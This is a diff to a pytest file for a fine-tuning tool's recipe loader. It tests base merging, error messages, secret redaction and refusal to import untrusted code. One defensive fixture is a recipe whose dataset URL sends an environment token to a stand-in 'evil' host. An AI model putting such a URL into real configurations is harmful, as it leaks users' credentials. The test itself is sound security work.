@@ -5,13 +5,17 @@ from __future__ import annotations
 import subprocess
 import sys
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
+import yaml
 
+from hftune import run
 from hftune.config import EvalConfig, Recipe, TrackConfig, TrainConfig
 from hftune.errors import ConfigError
+from hftune.importing import import_named
 from hftune.resources import recipe_names
 
 PLAIN = """
@@ -65,7 +69,7 @@ class NoTask:
     pass
 """
 
-SECTIONS = "Sections: task, train, eval, checkpoint, parallel, track. Keys at the top: recipe, base, seed, output_dir, resume."
+SECTIONS = "Sections: task, train, eval, checkpoint, parallel, track. Keys at the top: recipe, base, replace, seed, output_dir, resume."
 SHIPPED = f"Shipped: {', '.join(recipe_names())}. For a file of your own give its path, ending in .yaml."
 
 
@@ -730,7 +734,7 @@ def test_a_metric_that_the_task_does_not_compute_is_refused(plain):
 
 def test_a_metric_of_a_task_of_ones_own_is_checked_too(write, own_tasks):
     path = write("mine.yaml", "task: {type: own_tasks.Reports}\neval: {metric: f2}")
-    assert refusal(f"recipe={path}") == ("eval.metric='f2' is not computed by Reports. It computes: loss, f1.")
+    assert refusal(f"recipe={path}") == (f"eval.metric='f2' is not computed by Reports. It computes: loss, f1. ({path})")
 
 
 # Files that a recipe names
@@ -821,8 +825,300 @@ def test_a_model_folder_with_a_config_is_accepted(plain, tmp_path):
 def test_a_fresh_model_without_a_type_asks_for_it(write):
     path = write("mine.yaml", "task: {type: SequenceClassification, model: null, dataset: 'hftune.data.demo:reviews'}")
     assert refusal(f"recipe={path}") == (
-        "task.model=null builds a fresh model: set task.model_config.model_type (such as bert) and its sizes."
+        f"task.model=null builds a fresh model: set task.model_config.model_type (such as bert) and its sizes. ({path})"
     )
+
+
+# What a base brings along
+
+
+@pytest.fixture
+def above(write) -> Callable[[str], Path]:
+    """Return a function that writes a recipe above one with a model_config of its own."""
+    write("below.yaml", PLAIN + "train: {lr: 0.25, epochs: 7}")
+    return lambda text: write("above.yaml", f"base: below.yaml\n{text}")
+
+
+def test_a_mapping_is_merged_with_the_base_s_unless_it_is_to_replace_it(above):
+    mine = "task: {model_config: {model_type: gpt2}}"
+    assert Recipe.load(above(mine)).task.model_config == {"model_type": "gpt2", "hidden_size": 16}
+    replaced = Recipe.load(above(f"replace: [task.model_config]\n{mine}"))
+    assert replaced.task.model_config == {"model_type": "gpt2"}
+    assert replaced.train.lr == 0.25
+
+
+def test_an_entry_of_a_mapping_and_a_whole_section_can_be_replaced(above):
+    recipe = Recipe.load(above("replace: [task.model_config.hidden_size, train]\ntrain: {batch_size: 8}"))
+    assert recipe.task.model_config == {"model_type": "bert"}
+    assert recipe.train == TrainConfig(batch_size=8)
+
+
+def test_a_task_can_be_replaced_by_one_of_another_type(above, own_tasks):
+    recipe = Recipe.load(above("replace: [task]\ntask: {type: own_tasks.Tuned, path: a}"))
+    assert (recipe.task.path, recipe.train.lr) == ("a", 0.25)
+
+
+def test_the_command_line_can_replace_a_mapping_too(plain):
+    words = ["replace=[task.model_config]", "task.model_config={model_type: gpt2}"]
+    assert Recipe.load(plain, *words).task.model_config == {"model_type": "gpt2"}
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        (
+            "replace: [task.modelconfig]",
+            "replace=[task.modelconfig]: task.modelconfig is not a key of a recipe. Did you mean 'task.model_config'?",
+        ),
+        ("replace: task", "replace='task' is not a list of keys, such as [task.model_config]."),
+        ("replace: [1]", "replace=[1] is not a list of keys, such as [task.model_config]."),
+    ],
+)
+def test_what_cannot_be_replaced_is_named_with_its_file(above, text, message):
+    path = above(text)
+    assert refusal(f"recipe={path}") == f"{message} ({path})"
+
+
+def test_replacing_without_a_base_is_refused(write):
+    path = write("mine.yaml", PLAIN + "replace: [train]")
+    assert refusal(f"recipe={path}") == f"replace=['train'] is for what a base sets, and there is no base. ({path})"
+
+
+def test_a_schedule_chosen_above_a_base_does_without_the_keys_of_the_base_s_schedule(write):
+    write("step.yaml", PLAIN + "train: {schedule: step, gamma: 0.5, step_size: 2}")
+    write("cosine.yaml", PLAIN + "train: {schedule: cosine, min_lr: 1e-6}")
+    train = Recipe.load(write("mine.yaml", "base: step.yaml"), "train.schedule=linear").train
+    assert (train.schedule, train.gamma, train.step_size) == ("linear", None, 1)
+    assert Recipe.load(write("mine.yaml", "base: cosine.yaml\ntrain: {schedule: constant}")).train.min_lr == 0
+    assert Recipe.load(write("mine.yaml", "base: cosine.yaml\ntrain: {schedule: linear}")).train.min_lr == 1e-6
+
+
+def test_keys_of_another_schedule_are_refused_where_they_were_not_inherited(write):
+    path = write("linear.yaml", PLAIN + "train: {schedule: linear}")
+    message = "train.gamma=0.5 needs train.schedule=step, not linear."
+    assert refusal(f"recipe={path}", "train.gamma=0.5") == (
+        f"{message} (train.schedule: {path}; train.gamma: the command line)"
+    )
+    assert refusal(f"recipe={path}", "train.gamma=0.5", "train.schedule=linear") == message
+
+
+# Where a value comes from
+
+
+def test_a_bound_names_the_file_that_a_value_comes_from(above):
+    path = above("train: {batch_size: 0}")
+    assert refusal(f"recipe={path}") == f"train.batch_size=0 must be at least 1. ({path})"
+
+
+def test_a_bound_between_two_keys_names_both_origins(above):
+    path = above("train: {micro_batch_size: 9}")
+    assert refusal(f"recipe={path}", "train.batch_size=8") == (
+        "train.micro_batch_size=9 is larger than train.batch_size=8: a micro-batch is a part of the global batch. Lower the "
+        f"first or raise the second. (train.micro_batch_size: {path}; train.batch_size: the command line)"
+    )
+
+
+def test_a_missing_file_is_told_with_the_recipe_that_names_it(above):
+    path = above("task: {model: ./nowhere}")
+    assert refusal(f"recipe={path}") == f"task.model=./nowhere: there is no such folder. ({path})"
+    assert refusal("recipe=yelp_demo", "task.model=./nowhere") == "task.model=./nowhere: there is no such folder."
+
+
+# Numbers that YAML 1.1 reads differently
+
+
+@pytest.mark.parametrize(("text", "number"), [("1:30", 90), ("010", 8), ("1:30.5", 90.5), ("-1:00", -60)])
+def test_a_number_that_yaml_takes_for_another_one_is_refused(write, plain, text, number):
+    reason = f"YAML reads {text} as the number {number}. Write {number}, or put a text in quotes: '{text}'."
+    assert refusal(f"recipe={plain}", f"train.epochs={text}") == f"train.epochs={text}: {reason}"
+    path = write("mine.yaml", PLAIN + f"track:\n  run_name: {text}\n")
+    assert refusal(f"recipe={path}") == f"{path}, line {PLAIN.count(chr(10)) + 2}: {reason}"
+
+
+def test_the_same_as_a_text_in_quotes_and_plain_numbers_are_accepted(plain):
+    words = ["track.run_name='1:30'", "train.lr=0.5", "train.epochs=10", "seed=0", "task.label_names=['01','02']"]
+    recipe = Recipe.load(plain, *words)
+    assert (recipe.track.run_name, recipe.task.label_names) == ("1:30", ["01", "02"])
+
+
+# Secrets
+
+
+@pytest.fixture
+def secret(monkeypatch) -> str:
+    monkeypatch.setenv("A_TOKEN", "s3cr3t")
+    return "s3cr3t"
+
+
+def test_a_text_from_the_environment_is_used_and_written_nowhere(plain, secret, write):
+    recipe = Recipe.load(
+        plain,
+        "track.run_name=${oc.env:A_TOKEN}",
+        "track.project=${track.run_name}-project",
+        "track.with=[wandb,'${oc.decode:tensorboard}']",
+        "task.data_files.train=https://host/${oc.env:A_TOKEN}",
+        "task.data_files.eval=eval.jsonl",
+    )
+    assert (recipe.track.run_name, recipe.track.project) == (secret, f"{secret}-project")
+    assert recipe.task.data_files["train"] == f"https://host/{secret}"
+    assert secret not in recipe.to_yaml() and secret not in str(recipe.to_dict()) and secret not in repr(recipe.source.origins)
+    assert recipe.to_dict()["track"] == {
+        "with": ["wandb", "${oc.decode:tensorboard}"],
+        "project": "${track.run_name}-project",
+        "run_name": "${oc.env:A_TOKEN}",
+    }
+    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe
+
+
+def test_a_secret_in_the_wrong_place_is_not_shown(plain, secret):
+    assert refusal(f"recipe={plain}", "train.lr=${oc.env:A_TOKEN}") == (
+        "train.lr: the value that it refers to is of a wrong type."
+    )
+    assert refusal(f"recipe={plain}", "train.lr=${oc.env:NO_SUCH}") == "train.lr: the environment variable NO_SUCH is not set."
+
+
+def test_a_number_from_the_environment_is_written_as_it_was_used(plain, monkeypatch):
+    monkeypatch.setenv("SIZE", "16")
+    recipe = Recipe.load(plain, "train.batch_size=${oc.env:SIZE}", "track.run_name=${oc.env:SIZE}")
+    assert recipe.to_dict()["train"]["batch_size"] == 16
+    assert recipe.to_dict()["track"]["run_name"] == "${oc.env:SIZE}"
+
+
+def test_a_value_replaced_later_is_written_as_it_is(plain, secret):
+    recipe = replace(Recipe.load(plain, "output_dir=/scratch/${oc.env:A_TOKEN}"), output_dir="/elsewhere")
+    assert recipe.to_dict()["output_dir"] == "/elsewhere"
+
+
+def test_processes_with_different_environments_are_told_apart_by_digests(plain, secret, monkeypatch):
+    word = "task.text_column=${oc.env:A_TOKEN}"
+    here = Recipe.load(plain, word)
+    monkeypatch.setenv("A_TOKEN", "other")
+    there = Recipe.load(plain, word)
+    assert here.to_dict() == there.to_dict()
+    assert here.environment_digests() != there.environment_digests()
+    assert list(here.environment_digests()) == ["task.text_column (from the environment)"]
+    assert secret not in str(here.environment_digests())
+
+
+def test_spark_tasks_get_the_variables_that_a_recipe_names(plain, secret):
+    from hftune.spark import environment
+
+    assert environment(Recipe.load(plain, "track.run_name=${oc.env:A_TOKEN}"), use_gpu=True)["A_TOKEN"] == secret
+    assert "A_TOKEN" not in environment(Recipe.load(plain), use_gpu=True)
+
+
+# Code that is not hftune's
+
+
+BAD_MODULES = {
+    "leaves": (
+        "import sys\nsys.exit(0)\n",
+        "importing leaves calls sys.exit(0); put what it runs under if __name__ == '__main__': ({path}, line 2)",
+    ),
+    "broken": ("def f(:\n", "invalid syntax (broken.py, line 1)"),
+    "raises": ("raise RuntimeError('no GPU')\n", "RuntimeError: no GPU ({path}, line 1)"),
+}
+
+
+@pytest.mark.parametrize("name", BAD_MODULES)
+@pytest.mark.parametrize("key", ["task.type", "task.network", "task.dataset"])
+def test_a_module_that_does_something_else_on_import_is_named_with_its_key(write, plain, tmp_path, monkeypatch, name, key):
+    text, reason = BAD_MODULES[name]
+    path = write(f"{name}.py", text)
+    monkeypatch.syspath_prepend(tmp_path)
+    with pytest.raises(ConfigError) as caught:
+        import_named(key, f"{name}.Thing", name, "Thing")
+    assert str(caught.value) == f"{key}={name}.Thing cannot be imported: {reason.format(path=path)}."
+
+
+def test_a_task_file_that_exits_ends_with_exit_code_2(write, capsys):
+    write("leaves_at_once.py", "import sys\nsys.exit(0)\n")
+    assert run.main([f"recipe={write('mine.yaml', 'task: {type: leaves_at_once.Mine}')}"]) == 2
+    assert capsys.readouterr().err.startswith(
+        "hftune: task.type=leaves_at_once.Mine cannot be imported: importing leaves_at_once"
+    )
+
+
+@pytest.fixture
+def elsewhere(tmp_path, monkeypatch) -> None:
+    """Start in a folder that holds no recipe, with a path that is given back."""
+    (tmp_path / "elsewhere").mkdir()
+    monkeypatch.chdir(tmp_path / "elsewhere")
+    monkeypatch.setattr(sys, "path", [*sys.path])
+
+
+def test_a_task_is_found_next_to_its_recipe(write, elsewhere):
+    write("task_beside.py", OWN_TASKS)
+    path = write("mine.yaml", "task: {type: task_beside.Tuned, path: a}")
+    assert Recipe.load(path).task.path == "a"
+    assert sys.path[-1] == str(path.parent)  # last: it hides nothing
+    above = write("elsewhere/above.yaml", "base: ../mine.yaml")
+    assert Recipe.load(above).task.path == "a"
+
+
+def test_a_function_that_returns_rows_is_found_next_to_its_recipe(write, elsewhere):
+    write("rows_beside.py", "def rows(part):\n    return [{'text': part, 'label': 0}]\n")
+    text = PLAIN.replace("hftune.data.demo:reviews", "rows_beside:rows")
+    recipe = Recipe.load(write("mine.yaml", text))
+    from hftune.data.text import load_split
+
+    assert load_split(recipe.task.dataset, "train", None, "train")["text"] == ["train"]
+
+
+def test_a_recipe_of_hftune_s_own_code_leaves_the_path_alone(plain, elsewhere):
+    before = list(sys.path)
+    Recipe.load(plain)
+    assert sys.path == before
+
+
+def test_a_module_next_to_the_recipe_that_python_would_not_import_is_refused(write, elsewhere):
+    beside = write("yaml.py", OWN_TASKS)
+    path = write("mine.yaml", "task: {type: yaml.Tuned, path: a}")
+    assert refusal(f"recipe={path}") == (
+        f"task.type=yaml.Tuned: {beside} is next to the recipe, but Python imports {yaml.__file__} as yaml. Rename your module."
+    )
+
+
+TRUST = "Add --trust-code (in Python: trust_code=True) if you trust whoever wrote it."
+
+
+@pytest.mark.parametrize(
+    ("text", "named"),
+    [
+        ("task: {type: payload.Evil}", "task.type=payload.Evil"),
+        (PLAIN.replace("hftune.data.demo:reviews", "payload:rows"), "task.dataset=payload:rows"),
+        ("task: {type: ImageRestoration, network: payload.Net}", "task.network=payload.Net"),
+    ],
+)
+def test_code_of_a_recipe_that_is_not_trusted_is_not_imported(write, elsewhere, text, named):
+    write("payload.py", "raise SystemExit('imported')\n")
+    write("elsewhere/payload.py", "raise SystemExit('imported')\n")
+    path = write("recipe.yaml", text)
+    with pytest.raises(ConfigError) as caught:
+        Recipe.load(path, trust_code=False)
+    assert str(caught.value) == f"{named} ({path}) is not hftune's own code, and importing it would run it. {TRUST}"
+    assert "payload" not in sys.modules
+
+
+def test_code_that_is_named_on_the_command_line_is_meant(plain, own_tasks):
+    assert Recipe.load(plain, "task.dataset=own_tasks:rows", trust_code=False).task.dataset == "own_tasks:rows"
+
+
+def test_a_recipe_of_hftune_s_own_code_needs_no_trust(plain):
+    assert Recipe.load(plain, trust_code=False) == Recipe.load(plain)
+
+
+def test_a_recipe_that_is_not_trusted_puts_no_secret_into_its_task(write, secret):
+    text = "task: {type: SequenceClassification, model: null, dataset: 'https://evil/?${oc.env:A_TOKEN}'}"
+    path = write("recipe.yaml", text)
+    with pytest.raises(ConfigError) as caught:
+        Recipe.load(path, trust_code=False)
+    assert str(caught.value) == f"The task of {path} refers to environment variables, which can be secrets. {TRUST}"
+    hidden = write(
+        "hidden.yaml", text.replace("${oc.env:A_TOKEN}", "${track.project}") + "\ntrack: {project: '${oc.env:A_TOKEN}'}"
+    )
+    with pytest.raises(ConfigError, match="refers to environment variables"):
+        Recipe.load(hidden, trust_code=False)
 
 
 # What is imported
